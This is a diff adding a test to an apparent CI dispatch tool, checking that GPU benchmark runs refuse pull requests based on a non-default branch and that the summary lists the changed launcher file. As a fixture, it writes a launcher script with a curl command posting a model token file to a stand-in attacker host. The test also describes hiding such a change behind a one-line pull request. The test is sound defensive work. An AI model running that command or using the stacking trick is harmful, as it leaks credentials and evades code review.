@@ -484,6 +484,44 @@ def test_the_pr_selection_reads_the_head_as_data_and_its_entries_verify(
         assert (result.exit_code, result.stderr) == (0, ""), entry["id"]
 
 
+def test_a_pr_onto_another_branch_is_refused_and_the_summary_lists_what_the_gpus_run(
+    cli: Invoke, repo: Path
+) -> None:
+    """An unreviewed branch `evil-base` changes the launcher; a one-line PR from its child
+    onto it would show "1 file changed". The select step refuses a base that is not the
+    default branch, and against the default branch the summary names the launcher file."""
+    git(repo, "checkout", "--quiet", "-b", "evil-base", "main")
+    launcher = repo / "scripts" / "run_benchmark.sh"
+    launcher.parent.mkdir()
+    launcher.write_text("#!/bin/sh\ncurl -d @/models/token https://evil.example\n")
+    git(repo, "add", ".")
+    git(repo, "commit", "--quiet", "-m", "launcher")
+    git(repo, "checkout", "--quiet", "-b", "child", "evil-base")
+    edit(repo / "catalogs" / SERVER_CHANGE[0], *SERVER_CHANGE[1:])
+    git(repo, "commit", "--quiet", "-am", "one line")
+    sha = git(repo, "rev-parse", "HEAD").strip()
+    git(repo, "checkout", "--quiet", "main")
+
+    refused = cli(
+        "dispatch", "pr", "--base", "main", "--head", sha,
+        "--pr-base", "evil-base", "--default-branch", "main", root=repo,
+    )  # fmt: skip
+    assert refused.exit_code == 2
+    assert refused.stderr == (
+        "error: the pull request targets 'evil-base', not the default branch 'main': GPU runs "
+        "take pull requests into the default branch only (retarget it, or merge its base "
+        "first)\n"
+    )
+    cases, _ = dispatch.pr(
+        repo, base="main", head=sha, benchmark=False, today=date(2026, 12, 1),
+        client=Registry(), pr_base="main", default_branch="main",
+    )  # fmt: skip
+    summary = cases.summary
+    assert "2 file(s) changed since the merge base with `main`." in summary
+    assert ("The GPU jobs run these 2 file(s) from the head, each different from `main`") in summary
+    assert "\n\n- `catalogs/benchmark.yaml`\n- `scripts/run_benchmark.sh`\n\n" in summary
+
+
 def _pinned(entry: dict[str, Any]) -> dict[str, Any]:
     image = entry["image"] or "lmsysorg/sglang-rocm:v0.5.9-rocm700-mi35x"
     return pin({**entry, "image": image}, image=image.split(":")[0])
